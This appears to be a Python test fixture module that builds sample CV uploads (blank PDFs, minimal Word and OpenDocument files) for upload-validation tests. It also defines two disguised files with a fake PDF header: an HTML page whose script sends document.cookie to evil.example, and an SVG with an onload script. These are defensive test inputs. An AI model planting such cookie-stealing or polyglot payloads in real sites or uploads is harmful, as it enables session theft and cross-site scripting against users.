"""CVs as applicants send them, and files dressed up as CVs, for the upload tests."""

from __future__ import annotations

import io
import zipfile

from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject

# A file that starts like a PDF and is a web page (or an SVG) with a script after it.
HTML_AS_PDF = (b"%PDF-1.7\n<!doctype html><html><body><h1>CV</h1>"
               b"<script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>")
SVG_AS_PDF = (b'%PDF-1.4\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">'
              b"<text>CV</text></svg>\n%%EOF\n")


def pdf(pages: int = 1) -> bytes:
    """A real PDF: blank A4 pages, written by pypdf."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def large_pdf(size: int) -> bytes:
    """A real PDF of about ``size`` bytes (at most): one page whose content stream is that
    large, as a scanned CV's image would be."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    stream = DecodedStreamObject()
    stream.set_data(b"%" + b"0" * (size - 1024))  # a comment as long as the page allows
    page.replace_contents(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zipped(parts: dict[str, str]) -> bytes:
    """A zip container of these parts (``mimetype`` stored first, as OpenDocument asks)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in parts.items():
            compression = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, text, compress_type=compression)
    return out.getvalue()


DOCX_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
    "word/document.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>Sanne Visser, monteur</w:t></w:r></w:p></w:body></w:document>"),
}

ODT_PARTS = {
    "mimetype": "application/vnd.oasis.opendocument.text",
    "META-INF/manifest.xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
        ' manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type='
        '"application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"),
    "content.xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        "<office:body><office:text><text:p>Jonas Weber, Mechatroniker</text:p></office:text>"
        "</office:body></office:document-content>"),
}


def docx(extra: dict[str, str] | None = None) -> bytes:
    """A real Word document (the parts Word needs), with ``extra`` parts added."""
    return zipped({**DOCX_PARTS, **(extra or {})})


def odt(extra: dict[str, str] | None = None) -> bytes:
    """A real OpenDocument text, with ``extra`` parts added."""
    return zipped({**ODT_PARTS, **(extra or {})})
